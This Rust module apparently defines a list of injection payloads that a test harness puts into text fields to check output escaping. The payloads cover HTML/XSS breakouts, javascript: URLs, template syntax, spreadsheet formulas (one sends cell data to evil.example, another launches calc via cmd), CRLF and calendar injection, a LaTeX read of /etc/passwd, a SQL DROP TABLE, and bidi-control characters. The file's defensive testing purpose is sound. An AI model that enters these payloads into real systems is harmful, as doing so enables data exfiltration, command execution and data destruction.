//! What is put into the fields: each would do something in one of the places where a text can come out.

/// Where a payload stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// In place of the text.
    Whole,
    /// Behind it, so that an address stays an address and a citation a citation.
    Behind,
}

pub struct Payload {
    pub name: &'static str,
    place: Place,
    /// `§` is replaced by the number of the field, so that a hit tells which it was.
    text: &'static str,
}

impl Payload {
    /// What a field holds whose benign text is given.
    pub fn filled(&self, number: usize, benign: &str) -> String {
        let own = self.text.replace('§', &number.to_string());
        match self.place {
            Place::Whole => own,
            Place::Behind => format!("{benign}{own}"),
        }
    }
}

pub fn payload(name: &str) -> &'static Payload {
    PAYLOADS.iter().find(|payload| payload.name == name).unwrap()
}

const fn whole(name: &'static str, text: &'static str) -> Payload {
    Payload { name, place: Place::Whole, text }
}

const fn behind(name: &'static str, text: &'static str) -> Payload {
    Payload { name, place: Place::Behind, text }
}

/// Ends every context of HTML, and then does something.
const BREAKS: &str = "\"><img src=x onerror=pwn(§)>'><script>pwn(§)</script></script><script>pwn(§)</script>\
    </style></title></textarea></noscript></template></svg><svg onload=pwn(§)><pwn-§ data-pwn=§>\
    --><script>pwn(§)</script>]]><script>pwn(§)</script>pwn§";

/// Is markup once it is decoded once too often.
const DECODED: &str = "&lt;img src=x onerror=pwn(§)&gt;&quot;&gt;&lt;pwn-§ data-pwn=§&gt;&#60;script&#62;pwn(§)&#60;/script&#62;\
    %3Cscript%3Epwn(§)%3C/script%3E\\u003cscript\\u003epwn(§)\\x3cpwn-§ data-pwn=§\\x3e";

pub const PAYLOADS: &[Payload] = &[
    whole("markup", BREAKS),
    behind("markup-behind", BREAKS),
    whole("decoded", DECODED),
    behind("decoded-behind", DECODED),
    whole("attribute", "\" autofocus onfocus=pwn(§) onmouseover=pwn(§) x=\""),
    whole("attribute-single", "' autofocus onfocus=pwn(§) onmouseover=pwn(§) x='"),
    whole("attribute-bare", "x onmouseover=pwn(§) x="),
    behind("address-behind", "\"onmouseover=pwn(§)//'><svg/onload=pwn(§)><pwn-§/data-pwn=§>"),
    whole("javascript", "javascript:pwn(§)"),
    whole("javascript-case", "JaVaScRiPt:pwn(§)"),
    whole("javascript-control", "\u{1}javascript:pwn(§)"),
    whole("javascript-tab", "java\tscript:pwn(§)"),
    whole("javascript-entity", "javascript&colon;pwn(§)"),
    whole("data", "data:text/html,<script>pwn(§)</script>"),
    whole("vbscript", "vbscript:pwn(§)"),
    whole("host", "//evil.example/pwn§"),
    whole("script", "</script><script>pwn(§)</script><pwn-§ data-pwn=§>"),
    whole("template", "{{ 7*7 }}{% raw %}{# pwn§ #}{% include \"x\" %}${7*7}"),
    whole("string", "\\\"; pwn(§); '+pwn(§)+' //\\\\`${pwn(§)}`\u{2028}pwn(§)\u{2029}*/"),
    whole("formula", "=HYPERLINK(\"https://evil.example/?\"&A1,\"pwn§\")"),
    whole("formula-plus", "+cmd|' /C calc'!A0 pwn§"),
    whole("formula-minus", "-2+3+cmd|' /C calc'!A0 pwn§"),
    whole("formula-at", "@SUM(1)*pwn§"),
    whole("formula-tab", "\t=1+pwn§"),
    whole(
        "lines",
        "pwn§\r\nATTENDEE:mailto:x@evil.example\r\nEND:VEVENT\r\n\r\nX-Header: pwn§\n/* /pwn§ 301\rA:1",
    ),
    whole("calendar", "pwn§;X=1,a\\nATTENDEE:x\\, \"b\":c"),
    whole("xml", "]]><pwn-§ data-pwn=\"§\"/><![CDATA[ &amp;lt; &#x3c;pwn-§&#x3e; <?pwn §?>"),
    whole("latex", "}\\input{/etc/passwd}\\write18{pwn§}{ % $ & _ # ^ ~ @ \\"),
    behind("latex-behind", "}},@book{pwn§,title={pwn§\\"),
    whole("sql", "'); DROP TABLE people; -- pwn§"),
    whole("override", "\u{202E}pwn§\u{202C}"),
    whole("embedding-open", "\u{202B}pwn§"),
    whole("isolate-open", "\u{2067}pwn§"),
    whole("isolate-behind", "pwn§\u{2069}\u{202C}"),
    whole("isolate", "\u{2067}pwn§\u{2069} \u{200F}\u{200E}\u{061C}"),
    whole("zero-width", "p\u{200B}w\u{200D}n\u{200C}§\u{FEFF}\u{2060}"),
];
